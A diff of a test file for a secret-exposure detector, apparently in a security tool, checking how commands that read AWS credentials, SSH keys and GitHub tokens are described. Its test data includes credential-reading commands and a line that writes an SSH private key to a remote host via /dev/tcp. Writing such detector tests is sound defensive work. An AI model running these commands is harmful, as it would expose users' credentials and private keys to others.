@@ -254,11 +254,10 @@ describe("credential_exposure: the detail says where the secrets go", () => {
     ["echo $GITHUB_TOKEN 1>token.txt 2>&1", `copies ${SECRETS} into the file token.txt`],
     ["Get-Content ~/.aws/credentials > c.txt", `copies ${SECRETS} into the file c.txt`],
     ["cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/4444", `writes ${SECRETS} to a network connection (/dev/tcp/203.0.113.9/4444)`],
-    ["cat ~/.aws/credentials > /dev/null", `reads ${SECRETS} and discards them (to /dev/null)`],
     ['KEYS="$(cat ~/.aws/credentials)"', `reads ${SECRETS} into another command (through a substitution)`],
     ["diff <(cat ~/.aws/credentials) backup", `reads ${SECRETS} into another command (through a substitution)`],
     ["printenv | grep AWS", `passes ${SECRETS} through a pipe to grep`],
-    ["echo $GITHUB_TOKEN | docker login ghcr.io -u bot --password-stdin", `passes ${SECRETS} through a pipe to docker`],
+    // session 15: discarded (`> /dev/null`) and `| docker login --password-stdin` raise none: src/core/risk-indirect.test.ts
   ])("%s", (command, expected) => {
     expect(detail(command)).toBe(expected);
   });
